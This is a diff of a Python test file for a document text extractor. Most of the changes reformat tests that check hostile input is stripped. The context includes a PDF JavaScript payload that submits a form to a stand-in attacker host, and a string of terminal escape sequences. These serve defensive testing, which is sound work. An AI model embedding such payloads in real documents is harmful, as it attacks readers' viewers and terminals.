@@ -1,5 +1,6 @@
 """Hostile or unusual documents give text only: no markup, no script, no control characters, and
 nothing taken from the file's name but what it says the file should be."""
+
 from __future__ import annotations
 
 import io
@@ -45,6 +46,7 @@ def test_utf16_without_a_mark_is_still_binary():
 def test_a_pdf_carrying_javascript_gives_its_text_and_nothing_of_the_script(edgar_sample_dir):
     pypdf = pytest.importorskip("pypdf", reason="pypdf writes the JavaScript action")
     from pypdf.actions import JavaScript
+
     original = (edgar_sample_dir / AVERY_LETTER).read_bytes()
     writer = pypdf.PdfWriter(clone_from=io.BytesIO(original))
     writer.add_open_action(JavaScript("app.alert('owned'); this.submitForm('https://attacker.example/');"))
@@ -82,7 +84,9 @@ def test_an_svg_is_an_image_whatever_it_is_named(filename):
 def test_control_characters_never_reach_the_text(filename):
     body = "We note your revenue. " * 200  # a few control characters in a long letter still make text
     data = f"<p>Dear Sir:\x1b[2J\x1b]0;owned\x07 {body}</p><p>Sincerely,\x00\x08</p>".encode()
-    text = extract_text(data if filename.endswith(".htm") else data.replace(b"<p>", b"").replace(b"</p>", b"\n\n"), filename=filename).text
+    text = extract_text(
+        data if filename.endswith(".htm") else data.replace(b"<p>", b"").replace(b"</p>", b"\n\n"), filename=filename
+    ).text
     assert text == f"Dear Sir:[2J]0;owned {body.strip()}\n\nSincerely,"
 
 
